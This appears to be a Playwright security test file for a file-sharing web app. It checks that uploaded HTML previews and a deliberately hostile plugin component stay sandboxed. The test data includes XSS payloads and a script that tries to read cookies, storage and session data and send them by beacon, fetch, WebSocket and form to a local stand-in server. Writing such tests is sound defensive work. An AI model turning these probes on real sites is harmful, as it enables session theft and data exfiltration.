import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Request } from '@playwright/test'
import { contract } from '#contract/index.ts'
import { Client } from '../support/client.ts'
import { zipOf } from '../support/package.ts'
import { ADMIN, type Server } from '../support/server.ts'
import { upload } from '../support/upload.ts'
import { expect, openSpace, ownServer, PASSWORD, sendSignIn, signIn, test } from './journey.ts'

const SPACE = '高原湖泊生态观测'
async function spaceNamed(client: Client, name: string): Promise<string> {
  const { list } = await client.data(contract.spaces.list, { q: name })
  return list[0]?.id ?? ''
}

const PAGE = `<!doctype html><h1 id="title">Lake report</h1><script>document.title = 'ran'; parent.postMessage('ran', '*')</script>
<img src="/api/get.u" onerror="parent.postMessage('ran', '*')"><style>h1 { color: rgb(1, 2, 3) }</style>
<iframe src="javascript:parent.parent.postMessage('ran', '*')"></iframe><meta http-equiv="refresh" content="0;url=/">`

test('a page among the files shows as it looks, and nothing in it runs', async ({ page, server }) => {
  const owner = await new Client(server.origin).login('lin@demo.test', PASSWORD)
  await upload(owner, { spaceId: await spaceNamed(owner, SPACE), name: 'report.html' }, Buffer.from(PAGE))
  await signIn(page, 'lin@demo.test')
  await openSpace(page, SPACE)
  const row = page.getByRole('row', { name: /report\.html/ })
  await expect(row).toBeVisible()
  await page.evaluate(() => {
    const said: unknown[] = []
    Object.assign(window, { said })
    addEventListener('message', ({ data }) => said.push(data))
  })
  await row.dblclick()
  const frame = page.locator('.preview-modal iframe')
  await expect(frame).toHaveAttribute('sandbox', 'allow-scripts')
  const inner = frame.contentFrame().locator('iframe.page')
  await expect(inner.contentFrame().getByRole('heading', { name: 'Lake report' })).toHaveCSS('color', 'rgb(1, 2, 3)')
  await expect(page.locator('.frame-note')).toHaveCount(0)
  expect(await page.evaluate(() => (window as unknown as { said: unknown[] }).said)).not.toContain('ran')
})

/** Tries what a component may never do, and says what came of it. `<here>` is the site, `<there>` another one. */
const HOSTILE = `
const found = {}
const attempt = (name, work) => Promise.race([
  Promise.resolve().then(work).then((got) => 'GOT ' + String(got).slice(0, 80), (error) => 'refused ' + error.name),
  new Promise((resolve) => setTimeout(resolve, 3000, 'refused by silence')),
]).then((result) => { found[name] = result })
const THERE = 'http://<there>'
const image = (src) => new Promise((resolve, reject) => { const one = new Image(); one.onload = () => resolve('loaded'); one.onerror = () => reject(new TypeError()); one.src = src })
const run = (port) => Promise.all([
  attempt('origin', () => { if (self.origin === 'null') throw new TypeError(); return self.origin }),
  attempt('cookie', () => document.cookie),
  attempt('localStorage', () => localStorage.length),
  attempt('sessionStorage', () => sessionStorage.length),
  attempt('indexedDB', () => new Promise((resolve, reject) => { const asked = indexedDB.open('a'); asked.onsuccess = () => resolve('open'); asked.onerror = () => reject(asked.error) })),
  attempt('page around', () => parent.document.title),
  attempt('storage of the page around', () => parent.sessionStorage.length),
  attempt('session', () => fetch('/api/get.u', { credentials: 'include' }).then((answer) => answer.text())),
  attempt('session without cors', () => fetch('/api/get.u', { mode: 'no-cors', credentials: 'include' }).then(() => 'sent')),
  attempt('beacon', () => { if (!navigator.sendBeacon(THERE + '/beacon', 'x')) throw new TypeError(); return new Promise((_, reject) => setTimeout(reject, 500, new TypeError('see the other site'))) }),
  attempt('other site', () => fetch(THERE + '/fetch', { mode: 'no-cors' }).then(() => 'sent')),
  attempt('picture of another site', () => image(THERE + '/picture')),
  attempt('picture of the site', () => image('/logo.svg')),
  attempt('another component', () => fetch('/package/stl/main.js').then((answer) => answer.text())),
  attempt('socket', () => new Promise((resolve, reject) => { const socket = new WebSocket('ws://<there>/socket'); socket.onopen = () => resolve('open'); socket.onerror = () => reject(new TypeError()) })),
  attempt('own socket', () => new Promise((resolve, reject) => { const socket = new WebSocket('ws://<here>/api/msg/x'); socket.onopen = () => resolve('open'); socket.onerror = () => reject(new TypeError()) })),
  attempt('worker that asks', () => new Promise((resolve, reject) => { const worker = new Worker(URL.createObjectURL(new Blob(['fetch("' + THERE + '/worker",{mode:"no-cors"}).then(()=>postMessage("sent"),()=>postMessage("no"))']))); worker.onmessage = ({ data }) => data === 'no' ? reject(new TypeError()) : resolve(data); worker.onerror = () => reject(new TypeError()) })),
  attempt('eval', () => (0, eval)('1+1')),
  attempt('window', () => { if (!open('/')) throw new TypeError(); return 'open' }),
  attempt('the page itself', () => { top.location = THERE + '/top'; throw new TypeError() }),
  attempt('form', () => { const form = document.createElement('form'); form.action = THERE + '/form'; form.method = 'post'; document.body.append(form); form.submit(); throw new TypeError() }),
  attempt('frame in the frame', () => new Promise((resolve, reject) => { const inner = document.createElement('iframe'); inner.src = THERE + '/inner'; inner.onload = () => reject(new TypeError('see the other site')); document.body.append(inner) })),
  attempt('service worker', () => navigator.serviceWorker.register('./evil.js')),
  attempt('clipboard', () => navigator.clipboard.readText()),
  attempt('camera', () => navigator.mediaDevices.getUserMedia({ video: true })),
  attempt('renewed by itself', () => fetch('/api/space/previewData?spaceId=x').then((answer) => answer.text())),
]).then(() => {
  document.body.innerHTML = '<pre></pre>'
  document.querySelector('pre').textContent = JSON.stringify(found)
})
addEventListener('message', ({ ports: [port] }) => {
  if (!port) return
  port.onmessage = ({ data }) => { if (data.type === 'file') { found.told = JSON.stringify(data); run(port).then(() => { port.postMessage({ type: 'state', state: 'finish' }); parent.postMessage({ ds: 1, type: 'ready' }, '*') }) }
    if (data.type === 'theme') location.href = THERE + '/self' }
})
parent.postMessage({ ds: 1, type: 'ready' }, '*')
`
const MANIFEST = {
  protocol: 1,
  bundle: 'hostile',
  version: '1.0.0',
  name: { zh: '恶意', en: 'Hostile' },
  entry: 'index.html',
  suffixes: ['evil'],
  rights: ['bytes'],
}

async function installHostile(server: Server, script: string): Promise<void> {
  const admin = await new Client(server.origin).login(ADMIN.email, ADMIN.password)
  const bytes = await zipOf([
    { name: 'component.json', text: JSON.stringify(MANIFEST) },
    { name: 'index.html', text: '<!doctype html><body><script src="./evil.js"></script>' },
    { name: 'evil.js', text: script },
  ])
  const send = async (fields: Record<string, string>) => {
    const body = new FormData()
    for (const [name, value] of Object.entries(fields)) body.set(name, value)
    body.set('file', new Blob([new Uint8Array(bytes)]), 'hostile.zip')
    const path = `/api${contract.components.installFile.path}`
    return (await (await admin.fetch(path, { method: 'POST', body })).json()) as {
      code: number
      data: { sha256: string }
    }
  }
  const { data } = await send({ isDryRun: 'true' })
  expect(await send({ isDryRun: 'false', sha256: data.sha256 })).toMatchObject({ code: 0 })
}

/** Another site, which writes down whatever reaches it. */
async function otherSite(): Promise<{ host: string; asked: string[]; close: () => void }> {
  const asked: string[] = []
  const site = createServer((request, response) => {
    asked.push(`${request.method} ${request.url}`)
    response.setHeader('access-control-allow-origin', '*').end('x')
  })
  await new Promise<void>((resolve) => site.listen(0, '127.0.0.1', resolve))
  return { host: `127.0.0.1:${(site.address() as AddressInfo).port}`, asked, close: () => site.close() }
}

test('a hostile component gets its file and nothing else: no session, no storage, no other site', async ({ page }) => {
  const there = await otherSite()
  await ownServer(async (server) => {
    const here = new URL(server.origin).host
    await installHostile(server, HOSTILE.replaceAll('<there>', there.host).replaceAll('<here>', here))
    const owner = await new Client(server.origin).login('lin@demo.test', PASSWORD)
    await upload(owner, { spaceId: await spaceNamed(owner, SPACE), name: 'bait.evil' }, Buffer.from('bait'))
    const sent: Request[] = []
    page.on('request', (request) => sent.push(request))
    await page.goto(`${server.origin}/login`)
    await sendSignIn(page, 'lin@demo.test')
    await page.waitForURL('**/space')
    await openSpace(page, SPACE)
    await page.getByRole('row', { name: /bait\.evil/ }).dblclick()
    const pre = page.locator('.preview-modal iframe').contentFrame().locator('pre')
    await expect(pre).toContainText('told')
    const { told = '', ...found } = JSON.parse(await pre.innerText()) as Record<string, string>
    expect(Object.entries(found).filter(([, result]) => !result.startsWith('refused'))).toEqual([])
    expect(Object.keys(JSON.parse(told) as object).sort()).toEqual([
      'addresses',
      'language',
      'mime',
      'name',
      'parameters',
      'rights',
      'size',
      'suffix',
      'theme',
      'type',
      'version',
    ])
    // Told of another theme, it goes elsewhere itself: the page around does not let it.
    const refusal = page.waitForEvent('console', (message) => /frame-src/.test(message.text()))
    await page.evaluate(() => Object.assign(document.documentElement.dataset, { theme: 'dark' }))
    await refusal
    // It tried to go elsewhere, and the page around it is where it was.
    await expect(page.locator('.preview-modal')).toBeVisible()
    expect(new URL(page.url()).host).toBe(here)
    const ofFrame = sent.filter((request) => request.url().includes('/package/'))
    expect(ofFrame.length).toBeGreaterThan(1)
    for (const request of ofFrame.filter((one) => !one.isNavigationRequest()))
      expect((await request.allHeaders()).cookie).toBeUndefined()
    expect(there.asked).toEqual([])
  })
  there.close()
})

test('a component that says too much, or what is not in the protocol, is cut', async ({ page }) => {
  await ownServer(async (server) => {
    const flood = `addEventListener('message', ({ ports: [port] }) => { if (!port) return
      document.body.innerText = 'shown'
      for (let i = 0; i < 1000; i += 1) port.postMessage({ type: 'state', state: 'loading' }) })
      parent.postMessage({ ds: 1, type: 'ready' }, '*')`
    await installHostile(server, flood)
    const owner = await new Client(server.origin).login('lin@demo.test', PASSWORD)
    await upload(owner, { spaceId: await spaceNamed(owner, SPACE), name: 'bait.evil' }, Buffer.from('bait'))
    await page.goto(`${server.origin}/login`)
    await sendSignIn(page, 'lin@demo.test')
    await page.waitForURL('**/space')
    await openSpace(page, SPACE)
    await page.getByRole('row', { name: /bait\.evil/ }).dblclick()
    await expect(page.locator('.preview-modal .empty-place')).toContainText('加载失败')
    await expect(page.locator('.preview-modal iframe')).toHaveCount(0)
  })
})
